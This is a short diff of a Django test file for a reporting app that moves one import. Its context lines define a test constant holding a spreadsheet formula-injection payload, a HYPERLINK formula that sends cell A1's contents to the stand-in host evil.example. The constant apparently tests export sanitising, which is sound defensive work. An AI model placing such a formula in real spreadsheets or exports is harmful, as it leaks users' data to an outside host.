@@ -12,9 +12,9 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
+from reporting.accounts.services.roles import roles_setup
 from reporting.models import Role
 from reporting.services import reports as report_services
-from reporting.services.roles import roles_setup
 from tests import factories
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
